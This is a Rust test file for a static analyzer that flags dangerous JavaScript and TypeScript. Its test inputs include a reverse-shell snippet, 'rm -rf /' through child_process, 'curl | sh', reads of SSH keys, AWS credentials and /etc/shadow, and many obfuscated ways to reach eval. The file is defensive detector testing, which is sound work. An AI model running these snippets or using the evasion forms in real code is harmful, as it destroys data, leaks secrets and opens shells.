@@ -1,0 +1,607 @@
+//! Each rule with programs in which it holds, and with ordinary ones in which it does not.
+#![allow(clippy::too_many_lines, reason = "tables of examples")]
+
+use super::{Dialect, check as look};
+use ringfence_types::Severity::{self, Error, Info, Warning};
+
+fn told_in(code: &str, dialect: Dialect) -> Vec<(&'static str, Severity)> {
+    let checked = look(code, dialect);
+    let mut told: Vec<_> = checked
+        .findings
+        .iter()
+        .map(|finding| {
+            (
+                finding.rule.id.trim_start_matches("javascript."),
+                finding.severity,
+            )
+        })
+        .collect();
+    told.sort();
+    told.dedup();
+    told
+}
+
+/// The rule holds with this severity, whatever else is told.
+#[track_caller]
+fn found(rule: &str, severity: Severity, codes: &[&str]) {
+    for code in codes {
+        let told = told_in(code, Dialect::JavaScript);
+        assert!(told.contains(&(rule, severity)), "{code}\n{told:?}");
+    }
+}
+
+/// Nothing is worse than this, in either language.
+#[track_caller]
+fn at_most(severity: Severity, codes: &[&str]) {
+    for code in codes {
+        for dialect in [Dialect::JavaScript, Dialect::TypeScript] {
+            let told = told_in(code, dialect);
+            assert!(
+                told.iter().all(|(_, found)| *found <= severity),
+                "{dialect:?}: {code}\n{told:?}"
+            );
+        }
+    }
+}
+
+#[track_caller]
+fn at_most_in_typescript(severity: Severity, codes: &[&str]) {
+    for code in codes {
+        let told = told_in(code, Dialect::TypeScript);
+        assert!(
+            told.iter().all(|(_, found)| *found <= severity),
+            "{code}\n{told:?}"
+        );
+    }
+}
+
+#[test]
+fn texts_that_are_run_are_found_by_every_way_to_them() {
+    found(
+        "dynamic_execution",
+        Warning,
+        &[
+            "eval('1')",
+            "eval(x)",
+            "eval?.(x)",
+            "(0, eval)('x')",
+            "(eval)('x')",
+            "const e = eval; e('x')",
+            "let e = eval; e('x')",
+            "let e = 1; e = eval; e('x')",
+            "globalThis.eval('x')",
+            "global['ev' + 'al']('x')",
+            "globalThis[`ev${'al'}`]('x')",
+            "const n = 'eval'; globalThis[n]('x')",
+            "globalThis[name]('x')",
+            "window.global.eval('x')",
+            "eval.call(null, 'x')",
+            "eval.apply(null, ['x'])",
+            "eval.bind(null)('x')",
+            "Reflect.apply(eval, null, ['x'])",
+            "Reflect.get(globalThis, 'eval')('x')",
+            "[1].map(eval)",
+            "const {eval: e} = globalThis; e('x')",
+            "const o = {run: eval}; o.run('x')",
+            "(function (e) { e('x') })(eval)",
+            "((e) => e('x'))(eval)",
+            "(function () { return this })().eval('x')",
+            "\\u0065val('x')",
+            "globalThis['lave'.split('').reverse().join('')]('x')",
+            "globalThis[['ev', 'al'].join('')]('x')",
+            "globalThis[String.fromCharCode(101, 118, 97, 108)]('x')",
+            "globalThis[atob('ZXZhbA==')]('x')",
+            "globalThis[Buffer.from('6576616c', 'hex').toString()]('x')",
+            "globalThis['\\x65\\x76\\x61\\x6c']('x')",
+            "eval`x`",
+            "true && eval('x')",
+            "(a || eval)('x')",
+            "(x ? eval : y)('x')",
+            "new Function('return 1')",
+            "Function('return 1')()",
+            "new Function(a, b)",
+            "[].constructor.constructor('x')()",
+            "({}).constructor.constructor('x')()",
+            "''.constructor.constructor('x')()",
+            "(() => {}).constructor('x')()",
+            "(async () => {}).constructor('x')()",
+            "(function* () {}).constructor('x')",
+            "function f() {} f.constructor('x')()",
+            "Function.prototype.constructor('x')",
+            "Reflect.construct(Function, ['x'])",
+            "Object.getPrototypeOf(async function () {}).constructor('x')",
+            "this.constructor.constructor('return process')()",
+            "x['constructor']['constructor']('x')()",
+            "const C = [].constructor; C.constructor('x')",
+            "Function.call(null, 'x')",
+            "setTimeout('x', 1)",
+            "setInterval('x' + y, 1)",
+            "setTimeout(`x`, 1)",
+            "globalThis.setTimeout('x')",
+            "require('vm').runInNewContext('x')",
+            "const vm = require('node:vm'); vm.runInThisContext(x)",
+            "import vm from 'vm'; new vm.Script('x').runInThisContext()",
+            "import {runInContext as r} from 'node:vm'; r(x, y)",
+            "const {compileFunction} = require('vm'); compileFunction('x')",
+            "const {Worker} = require('worker_threads'); new Worker('x', {eval: true})",
+            "module._compile('x', 'y')",
+            "new module.constructor()._compile('x', '')",
+            "import('data:text/javascript,x')",
+            "f(eval)",
+            "x.y = eval",
+        ],
+    );
+    at_most(
+        Info,
+        &[
+            "function f(eval) { return eval('x') }",
+            "{ let x = {eval() {}}; x.eval('x') }",
+            "import {evaluate} from 'mathjs'; evaluate('1+1')",
+            "model.eval()",
+            "const s = \"eval('x')\"; // eval(x)",
+            "if (typeof eval === 'function') {}",
+            "x instanceof Function",
+            "Function.prototype.call.call(f, x)",
+            "setTimeout(() => f(), 10); setTimeout(f, 10); setInterval(function () {}, 1)",
+            "this.constructor.name",
+            "new this.constructor(1)",
+            "class A extends B { constructor() { super(); this.x = Object.getPrototypeOf(this).constructor.name } }",
+            "const re = /eval/; re.exec('x'); 'eval'.length",
+            "obj['eval'] = 1",
+            "const f = (0, mod.fn)('x')",
+            "vm.run('x')",
+            "array.constructor === Array",
+            "const require = 1; const process = {binding() {}}; process.binding('fs')",
+        ],
+    );
+}
+
+#[test]
+fn programs_that_are_started_are_found() {
+    found(
+        "child_process",
+        Warning,
+        &[
+            "require('child_process').exec('ls')",
+            "const cp = require('child_process'); cp.execSync('ls')",
+            "const cp = require('node:child_process'); cp['spa' + 'wn']('ls')",
+            "const {exec} = require('child_process'); exec('ls')",
+            "const {exec: e} = require('child_' + 'process'); e('ls')",
+            "const {spawn = 1} = require(`child_${'process'}`); spawn('ls')",
+            "import {exec as e} from 'node:child_process'; e('ls')",
+            "import * as cp from 'child_process'; cp.fork('x')",
+            "import cp from 'child_process'; cp.execFileSync('ls', ['-l'])",
+            "(await import('child_process')).exec('ls')",
+            "const {default: cp} = await import('child_process'); cp.exec('ls')",
+            "module.require('child_process').exec('ls')",
+            "process.mainModule.require('child_process').exec('ls')",
+            "require.main.require('child_process').exec('ls')",
+            "module.constructor._load('child_process').exec('ls')",
+            "import {createRequire} from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('ls')",
+            "process.getBuiltinModule('child_process').exec('ls')",
+            "const r = require; r('child_process').exec('ls')",
+            "const m = 'child_process'; require(m).exec('ls')",
+            "const run = require('util').promisify(require('child_process').exec); run('ls')",
+            "[x].map(require('child_process').execSync)",
+            "require('child_process')[x]('ls')",
+            "let cp; cp = require('child_process'); cp.exec(y)",
+            "var a = require('child_process'), b = a.exec; b('ls')",
+            "require('child_process').exec.call(null, 'ls')",
+            "Reflect.apply(require('child_process').exec, null, ['ls'])",
+            "globalThis.process.mainModule.require('child_process').exec('x')",
+            "const {child_process: {exec}} = {child_process: require('child_process')}; exec('x')",
+        ],
+    );
+    found(
+        "child_process",
+        Info,
+        &[
+            "require('child_process')",
+            "import 'child_process'",
+            "import {execa} from 'execa'",
+        ],
+    );
+    found(
+        "shell.remove_root",
+        Error,
+        &[
+            "require('child_process').execSync('rm -rf /')",
+            "require('child_process').spawn('rm', ['-rf', '/'])",
+            "const {execFileSync} = require('child_process'); execFileSync('sh', ['-c', 'rm -rf ~'])",
+        ],
+    );
+    found(
+        "shell.download_and_run",
+        Warning,
+        &["require('child_process').exec('curl x | sh')"],
+    );
+    found(
+        "reverse_shell",
+        Error,
+        &[
+            "const net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []); \
+         const c = new net.Socket(); c.connect(1, 'x', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })",
+            "const sh = require('child_process').exec('/bin/bash'); require('net').connect(1, 'x').pipe(sh.stdin)",
+        ],
+    );
+    found(
+        "kill_all",
+        Error,
+        &["process.kill(-1)", "process.kill(-1, 'SIGKILL')"],
+    );
+    at_most(
+        Info,
+        &[
+            "function require(x) { return {exec() {}} } require('child_process').exec('ls')",
+            "(function (require) { require('child_process').exec('ls') })",
+            "/a/.exec('b'); regex.exec(text); db.exec('select 1')",
+            "const {exec} = require('./mine'); exec('ls')",
+            "import {spawn} from 'threads'; spawn(x)",
+            "process.kill(pid, 'SIGTERM')",
+        ],
+    );
+}
+
+#[test]
+fn modules_that_are_chosen_at_run_time_and_native_code_are_found() {
+    found(
+        "dynamic_require",
+        Warning,
+        &[
+            "require(x)",
+            "import(x)",
+            "require(process.argv[2])",
+            "module.require(x)",
+            "require(f())",
+        ],
+    );
+    found(
+        "dynamic_require",
+        Info,
+        &[
+            "require('./locale/' + name)",
+            "import(`./pages/${x}.js`)",
+            "require(`../${x}`)",
+        ],
+    );
+    found(
+        "native",
+        Warning,
+        &[
+            "process.binding('fs')",
+            "process['bind' + 'ing']('fs')",
+            "global.process.binding('spawn_sync')",
+            "process._linkedBinding('x')",
+            "process.dlopen(module, 'x.node')",
+            "require('./x.node')",
+            "process[x]('fs')",
+            "const {binding} = process; binding('fs')",
+        ],
+    );
+    found(
+        "worker_threads",
+        Info,
+        &["import {Worker} from 'worker_threads'", "require('cluster')"],
+    );
+    found(
+        "inspector",
+        Warning,
+        &["require('inspector')", "import i from 'node:inspector'"],
+    );
+    found(
+        "network",
+        Info,
+        &[
+            "fetch('https://example.com')",
+            "require('net').connect(80, 'example.com')",
+            "import tls from 'tls'",
+            "require('http').get('http://example.com')",
+            "const https = require('https'); https.request({host: 'x.y'})",
+            "require('dgram').createSocket('udp4')",
+            "new WebSocket('wss://x.y')",
+        ],
+    );
+    found("exit", Info, &["process.exit(1)", "process.abort()"]);
+    at_most(
+        Info,
+        &[
+            "require('express'); require('./lib'); require('../x.json')",
+            "const x = require('fs'), y = require('path')",
+            "process.on('exit', f); process.stdout.write('x'); process.env.HOME",
+            "const express = require('express'); const app = express(); app.get('/', (q, r) => r.send('x')); app.listen(3000)",
+            "await import('./x.js')",
+        ],
+    );
+}
+
+#[test]
+fn files_secrets_prototypes_and_hidden_texts_are_guarded() {
+    found(
+        "file_deletion",
+        Info,
+        &[
+            "require('fs').unlinkSync('x')",
+            "import {rm} from 'fs/promises'; await rm('x')",
+            "const fs = require('fs'); fs.rmSync('dist', {recursive: true, force: true})",
+            "require('fs').promises.rmdir('x')",
+            "const path = require('path'); require('fs').rmSync(path.join(__dirname, 'dist'), {recursive: true})",
+        ],
+    );
+    found(
+        "file_deletion",
+        Warning,
+        &[
+            "require('fs').rmSync(x, {recursive: true})",
+            "require('fs').rmSync('/opt/x/y', {recursive: true})",
+            "require('rimraf')(x)",
+            "const fs = require('fs'); const o = {recursive: true}; fs.rmSync('../x', o)",
+        ],
+    );
+    found(
+        "file_deletion",
+        Error,
+        &[
+            "require('fs').rmSync('/', {recursive: true, force: true})",
+            "require('fs').rmSync('/etc', {recursive: true})",
+            "require('fs').promises.rm(require('os').homedir(), {recursive: true})",
+            "const d = '/'; require('fs').rmSync(d, {recursive: true})",
+            "require('fs').rmSync('../..', {recursive: true})",
+        ],
+    );
+    found(
+        "credential_path",
+        Warning,
+        &[
+            "fs.readFileSync('/etc/shadow')",
+            "const p = '~/.ssh/id_rsa'",
+            "require('fs').readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_rsa'))",
+            "x = process.env.HOME + '/.aws/credentials'",
+            "`${home}/.netrc`",
+            "require('fs').readFileSync('.env')",
+            "open('/proc/self/environ')",
+        ],
+    );
+    found(
+        "prototype_pollution",
+        Warning,
+        &[
+            "x.__proto__.y = 1",
+            "x['__proto__']['y'] = 1",
+            "x.constructor.prototype.y = 1",
+            "Object.prototype.y = 1",
+            "Object.assign(Object.prototype, y)",
+            "const k = '__proto__'; x[k].y = 1",
+            "JSON.parse('{\"__proto__\": {\"x\": 1}}')",
+            "Object.defineProperty(x.__proto__, 'y', {})",
+        ],
+    );
+    found(
+        "obfuscation",
+        Warning,
+        &[
+            "\\u0065val('x')",
+            "x.\\u0065val('x')",
+            "'\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'",
+            "eval(atob('YWxlcnQoMSk='))",
+            "eval(Buffer.from(x, 'base64').toString())",
+            "new Function(String.fromCharCode(1, 2))",
+            "var _0x1a2b=['a'],_0x3c4d=1,_0x5e6f=2,_0x7a8b=3,_0x9c0d=4,_0x1e2f=5;",
+        ],
+    );
+    at_most(
+        Info,
+        &[
+            "fs.readFileSync('package.json')",
+            "const o = {__proto__: null}; Object.create(null)",
+            "A.prototype.f = function () {}; app.__proto__ = proto",
+            "'caf\\u00e9 \\u{1F600}'; '\\x1b[31m'; '\\n\\t'",
+            "atob(x); Buffer.from(y, 'base64')",
+            "require('dotenv').config({path: '.env'})",
+            "const h = '0123456789abcdef'; const _0xff = 1",
+            "array.pop(); map.delete(x); delete x.y; store.remove(1); set.clear()",
+            "element.remove(); fs.existsSync('/etc/hosts')",
+        ],
+    );
+}
+
+#[test]
+fn ordinary_programs_give_no_warning() {
+    at_most(
+        Info,
+        &[
+            "#!/usr/bin/env node\n'use strict';\nconst fs = require('fs');\nmodule.exports = function f(a, b = 1, ...c) { return a?.b ?? c };",
+            "import fs from 'node:fs'; export default class A { #x = 1; static y = 2; get z() { return this.#x } static { A.w = 1 } }",
+            "await Promise.all([1, 2].map(async (x) => { for await (const y of f(x)) { yield_(y) } }));",
+            "label: for (let i = 0, j = 1; i < 10; i++) { if (i) continue label; else break label }",
+            "function* g() { const x = yield 1; yield* h() } var {a, b: [c = 1], ...d} = e;",
+            "switch (x) { case 1: { break } default: f() } do { x-- } while (x); with_(y);",
+            "const t = tag`a${1}b${`c${d}`}`; x ||= 1; y &&= 2; z ??= 3; w **= 2;",
+            "return 1",
+            "await f()",
+            "const {writeFileSync} = require('fs'); writeFileSync('x', JSON.stringify({a: 1}, null, 2));",
+            "async function main() { try { await run() } catch { console.error('x') } finally { done() } }\nmain().catch((e) => { throw e });",
+            "const [a, , b] = [1, 2, 3]; const o = {async f() {}, get x() { return 1 }, set x(v) {}, *g() {}, ['k' + 1]: 2, 3: 4, 'y': 5};",
+            "/[/\\]]+/gu.test(a / b / c); a = b\n/c/g.exec(d)",
+            "if (a) b; else c\n;[1].forEach(f)\n;`x`.length",
+            "const n = 1_000n + 0xFFn; 0b11; 0o17; .5e-3; import.meta.url;",
+        ],
+    );
+    at_most_in_typescript(
+        Info,
+        &[
+            "enum Color { Red = 1, Green = 'g'.length } namespace N { export const x = 1 } declare const y: number;",
+            "abstract class A<T extends object = {}> extends B<T> implements C, D { private readonly x: Map<string, T[]> = new Map(); constructor(protected y?: number) { super() } abstract f(): void; @dec() g<U>(this: A<T>, u: U): u is U & T { return true } }",
+            "type F = (a: number, ...b: string[]) => asserts a is never; interface I { [k: string]: unknown; readonly x?: `a${string}` }",
+            "const x = <T,>(a: T): T => a; let y = z as unknown as string; let w = v!; const c = {a: 1} as const satisfies I;",
+            "import type {T} from './t'; import {type U, V} from './u'; export type {T}; export * as ns from './v'; import fs = require('fs');",
+            "function f(a: string): string; function f(a: number): number; function f(a: any) { return a }",
+            "type P<T> = {readonly [K in keyof T]?: T[K] extends (infer U)[] ? U : never}; let t: [a: number, b?: string, ...c: boolean[]];",
+            "declare module 'x' { export function f(): void } declare global { interface Window { x: number } }",
+            "@Component({selector: 'x'}) export class X { @Input() a!: string; constructor(@Inject(Y) private y: Y) {} }",
+            "const App = () => <div className=\"x\">{items.map((i) => <Item key={i} />)}</div>;",
+            "const express = require('express'); const app = express(); app.use((req: Request, res: Response, next: NextFunction) => next());",
+        ],
+    );
+}
+
+#[test]
+fn a_broken_program_is_an_error_at_its_place() {
+    for (code, place) in [
+        ("let a = ;", 8),
+        ("f(1", 3),
+        ("if (a { b() }", 6),
+        ("const a = 'x", 10),
+        ("}", 0),
+        ("let x = {a: 1", 13),
+        ("a b", 1),
+        ("const x = <div>a</div>", 10),
+        ("for (;;", 7),
+        ("import {a from 'b'", 10),
+    ] {
+        let checked = look(code, Dialect::JavaScript);
+        let finding = checked
+            .findings
+            .iter()
+            .find(|finding| finding.rule.id == "javascript.syntax")
+            .expect(code);
+        assert_eq!(finding.severity, Error);
+        assert!(
+            finding.range.start.abs_diff(place) <= 2,
+            "{code}: {:?} {}",
+            finding.range,
+            finding.what
+        );
+    }
+    for code in [
+        "let a: number = ;",
+        "interface {",
+        "enum A { B = }",
+        "type A = ",
+        "const a: = 1",
+    ] {
+        assert!(
+            told_in(code, Dialect::TypeScript).contains(&("syntax", Error)),
+            "{code}"
+        );
+    }
+}
+
+#[test]
+fn rules_see_what_stands_around_an_error() {
+    let told = told_in(
+        "let a = ;\nrequire('child_process').exec('ls');\n",
+        Dialect::JavaScript,
+    );
+    assert!(
+        told.contains(&("syntax", Error)) && told.contains(&("child_process", Warning)),
+        "{told:?}"
+    );
+}
+
+#[test]
+fn counts_are_those_of_the_program() {
+    let checked = look(
+        "import fs from 'node:fs';\nimport {a} from './a.js';\nexport {b} from './b.js';\nconst c = require('c');\nawait import('d');\n\
+         function f() {}\nconst g = () => {};\nclass A { m() {} get x() { return 1 } }\nconst B = class {};\n\
+         if (a) {} else if (b) {}\nfor (const x of y) {}\nwhile (a && b || c) {}\nswitch (x) { case 1: case 2: default: }\n\
+         try {} catch {}\nz = a ? b : c ?? d;\nfetch('https://api.example.com/v1');\nrequire('net').connect({host: 'db.example.org', port: 1});\n",
+        Dialect::JavaScript,
+    );
+    assert_eq!(
+        checked.analysis.imports,
+        ["./a.js", "./b.js", "c", "d", "net", "node:fs"]
+    );
+    assert_eq!(checked.analysis.functions, 4);
+    assert_eq!(checked.analysis.classes, 2);
+    assert_eq!(checked.analysis.cyclomatic_complexity, 12);
+    assert_eq!(checked.analysis.domains, ["api.example.com", "db.example.org"]);
+}
+
+#[test]
+fn names_mean_the_declaration_that_is_in_force() {
+    found(
+        "dynamic_execution",
+        Warning,
+        &[
+            "{ let eval_ = eval; { eval_('x') } }",
+            "function f() { return e('x') } const e = eval;",
+            "var e; if (x) { e = eval } e('x')",
+            "for (const e of [eval]) { e('x') }",
+            "try {} catch (eval_) {} eval('x')",
+            "{ function eval() {} } (function () { globalThis.eval('x') })()",
+            "const a = {b: {c: eval}}; const {b: {c: d}} = a; d('x')",
+            "const [e] = [eval]; e('x')",
+            "const e = f => f, g = eval; e(g)('x'); g('y')",
+        ],
+    );
+    at_most(
+        Info,
+        &[
+            "import eval_ from 'x'; eval_('x')",
+            "function f({eval: e}) { e('x') }",
+            "const e = x => x; { const eval = e; eval('x') }",
+            "try { f() } catch (eval) { eval('x') }",
+            "class require { static x() {} } require.x('child_process')",
+            "var a = a; a(); var b = c, c = b; b('x')",
+        ],
+    );
+}
+
+#[test]
+fn hostile_programs_end_in_time() {
+    let mut doubling = "const x0 = 'a';".to_owned();
+    for step in 1..300 {
+        doubling.push_str(&format!("const x{step} = x{0} + x{0};\n", step - 1));
+    }
+    doubling.push_str("globalThis[x299]('x')");
+    let mut names = "const x0 = eval;".to_owned();
+    for step in 1..5_000 {
+        names.push_str(&format!("const x{step} = x{};\n", step - 1));
+    }
+    names.push_str("x4999('x')");
+    for code in [
+        doubling.as_str(),
+        &names,
+        &"(".repeat(25_000),
+        &"[".repeat(25_000),
+        &"{".repeat(25_000),
+        &"`${".repeat(25_000),
+        &format!("{}{}", "(".repeat(25_000), ")".repeat(25_000)),
+        &format!("x{}", ".a".repeat(50_000)),
+        &format!("x{}", "()".repeat(50_000)),
+        &format!("'a'{}", "+'a'".repeat(25_000)),
+        &"function f(){".repeat(12_000),
+        &"(x)=>".repeat(12_000),
+        &"if(a)".repeat(12_000),
+        &"a=>{var x;".repeat(7_000),
+        &"var a;".repeat(12_000),
+        &(0..10_000).map(|n| format!("var v{n};")).collect::<String>(),
+        &"eval(".repeat(12_000),
+        &"atob(".repeat(12_000),
+        &"[].constructor".repeat(7_000),
+        &"require('child_process').exec('rm -rf /');".repeat(1_000),
+        &"'/".repeat(75_000),
+        &"\\u0061".repeat(25_000),
+        &"a".repeat(1 << 18),
+        &format!("'{}'", "\\x61".repeat(1 << 16)),
+        &"é".repeat(1 << 19),
+        &";".repeat(1 << 18),
+        &"{x=eval}".repeat(7_000),
+        &"x = x + x;".repeat(7_000),
+        &"const {a:{b:{c:{d:{e".repeat(2_000),
+        "const {'proto\": 1}",
+        "\\u{110000} '\\u{fffffff}' `\\u`",
+    ] {
+        let started = std::time::Instant::now();
+        look(code, Dialect::JavaScript);
+        look(code, Dialect::TypeScript);
+        let took = started.elapsed();
+        // Debug builds are some twenty times slower.
+        assert!(
+            took.as_secs() < 20,
+            "{took:?} {:?}",
+            code.get(..30.min(code.len()))
+        );
+        eprintln!("{took:?} {:?}", code.get(..30.min(code.len())));
+    }
+}
